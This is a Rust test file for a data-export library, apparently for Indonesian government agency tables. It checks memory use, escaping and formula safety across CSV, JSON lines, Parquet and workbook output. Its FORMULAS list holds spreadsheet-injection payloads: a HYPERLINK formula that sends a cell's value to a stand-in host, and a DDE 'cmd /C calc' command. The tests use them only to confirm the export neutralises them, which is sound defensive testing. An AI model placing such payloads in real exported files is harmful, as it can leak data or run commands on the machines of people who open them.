use super::*;
use crate::data::{Cell, JOINED, TableName, table};
use std::io::{self, Write};
use std::sync::atomic::{AtomicUsize, Ordering};

const ROWS: usize = 100_000;

/// How many rows were asked for, and how many were waiting in memory at most when bytes came.
#[derive(Default)]
struct Waiting {
    asked: AtomicUsize,
    told: AtomicUsize,
    most: AtomicUsize,
    bytes: AtomicUsize,
}

impl Waiting {
    fn rows<'w>(&'w self) -> impl Iterator<Item = Row<'w>> + 'w {
        (0..ROWS).map(|number| {
            self.asked.fetch_add(1, Ordering::Relaxed);
            let texts = (1..table(TableName::Opds).columns.len()).map(|_| Cell::Missing);
            let name = Cell::Text(format!("{number:06}").into());
            let mut row: Row<'_> = [name].into_iter().chain(texts).collect();
            // What is always there.
            for at in [1, 5] {
                row[at] = Cell::Text("Dinas, \"A\"".into());
            }
            row
        })
    }
}

impl Write for &Waiting {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        let asked = self.asked.load(Ordering::Relaxed);
        let waited = asked - self.told.swap(asked, Ordering::Relaxed);
        self.most.fetch_max(waited, Ordering::Relaxed);
        self.bytes.fetch_add(bytes.len(), Ordering::Relaxed);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// A site of any size is written with so many rows in memory, whatever the table's length.
#[test]
fn memory_hangs_on_a_few_rows_and_not_on_the_table() {
    let opds = table(TableName::Opds);
    let head = DocumentHead {
        format: 1,
        title: String::new(),
        government: String::new(),
        page: String::new(),
        as_of: String::new(),
        commit: None,
        licence: LicenceMark {
            id: String::new(),
            url: None,
        },
        sample_data: true,
        description: String::new(),
    };
    type Write<'w> = &'w dyn Fn(&Waiting) -> io::Result<()>;
    let forms: [(&str, usize, Write<'_>); 4] = [
        ("csv", 1_000, &|to| csv(opds, to.rows(), to)),
        ("json lines", 1, &|to| json_lines(opds, to.rows(), to)),
        ("parquet", 20_000, &|to| parquet(opds, to.rows(), to)),
        ("document", 1, &|to| {
            let source = Source {
                table: opds,
                rows: Box::new(|| Box::new(to.rows())),
            };
            document(&head, &[source], to)
        }),
    ];
    for (form, most, write) in forms {
        let waiting = Waiting::default();
        write(&waiting).unwrap();
        let count = |number: &AtomicUsize| number.load(Ordering::Relaxed);
        assert_eq!(count(&waiting.asked), ROWS, "{form}");
        assert!(
            count(&waiting.most) <= most,
            "{form}: {}",
            count(&waiting.most)
        );
        assert!(count(&waiting.bytes) > ROWS, "{form}");
    }
}

#[test]
fn a_number_keeps_its_digits_and_a_text_its_commas_and_lines() {
    let opds = table(TableName::Opds);
    let mut row: Row<'_> = vec![Cell::Missing; opds.columns.len()];
    row[0] = Cell::Text("a\r\nb, \"c\"".into());
    row[1] = Cell::Number("123456789012345678.123456789".parse().unwrap());
    let written = |write: &dyn Fn(&mut Vec<u8>)| {
        let mut bytes = Vec::new();
        write(&mut bytes);
        String::from_utf8(bytes).unwrap()
    };
    let text = written(&|to| csv(opds, [row.clone()].into_iter(), to).unwrap());
    let (names, values) = text.split_once("\r\n").unwrap();
    assert_eq!(names, "id,nama,nama_en,singkatan,pendahulu,alamat");
    let expected = "\"a\r\nb, \"\"c\"\"\",123456789012345678.123456789,,,,\r\n";
    assert_eq!(values, expected);
    let text = written(&|to| json_lines(opds, [row.clone()].into_iter(), to).unwrap());
    let expected = r#"{"id":"a\r\nb, \"c\"","nama":123456789012345678.123456789,"#;
    assert!(text.starts_with(expected), "{text}");
    assert!(text.ends_with("\"alamat\":null}\n"), "{text}");
}

/// JSON writes them as they are.
#[test]
fn names_of_columns_have_nothing_to_escape() {
    let tables = TableName::ALL.map(table).into_iter().chain([JOINED]);
    let names = tables
        .flat_map(|table| table.columns)
        .map(|column| column.name);
    let mut count = 0;
    for name in names {
        let is_plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_';
        assert!(name.chars().all(is_plain), "{name}");
        count += 1;
    }
    assert!(count > 100, "{count}");
}

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"https://a.example/?\"&A1,\"buka\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
];

fn rows_of_formulas<'r>() -> impl Iterator<Item = Row<'r>> {
    let empty = vec![Cell::Missing; table(TableName::Opds).columns.len()];
    FORMULAS.iter().map(move |formula| {
        let mut row: Row<'_> = empty.clone();
        row[0] = Cell::Text((*formula).into());
        row[1] = Cell::Number("-2.5".parse().unwrap());
        row
    })
}

#[test]
fn a_spreadsheet_computes_no_text_of_a_csv_file_and_keeps_negative_numbers() {
    let mut bytes = Vec::new();
    csv(table(TableName::Opds), rows_of_formulas(), &mut bytes).unwrap();
    let mut reader = ::csv::Reader::from_reader(&bytes[..]);
    let cells: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(cells.len(), FORMULAS.len());
    for (cells, formula) in cells.iter().zip(FORMULAS) {
        assert!(cells[0].starts_with('\''), "{formula}: {}", &cells[0]);
        assert_eq!(cells[0].replace('\'', ""), formula.replace('\'', ""));
        assert_eq!(&cells[1], "-2.5");
    }
}

#[test]
fn a_workbook_has_texts_and_no_formulas() {
    let words = crate::view::AboutWorkbook {
        title: FORMULAS[0].into(),
        facts: vec![(FORMULAS[1].into(), FORMULAS[2].into())],
        sheets: ["Keterangan".into(), "Kolom".into()],
        headings: [0, 1, 2].map(|at: usize| FORMULAS[at].into()),
        as_of: "2026-08-01".parse().unwrap(),
    };
    let source = Source {
        table: table(TableName::Opds),
        rows: Box::new(|| Box::new(rows_of_formulas())),
    };
    let mut bytes = Vec::new();
    workbook(&words, &[source], &mut bytes).unwrap();
    let mut archive = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
    let mut texts = 0;
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).unwrap();
        let name = file.name().unwrap().into_owned();
        let mut xml = String::new();
        io::Read::read_to_string(&mut file, &mut xml).unwrap();
        assert!(!name.contains("externalLink"), "{name}");
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "{name} has a formula"
        );
        texts += xml.matches("HYPERLINK").count();
    }
    assert_eq!(texts, 4, "title, that of the document, heading and cell");
}
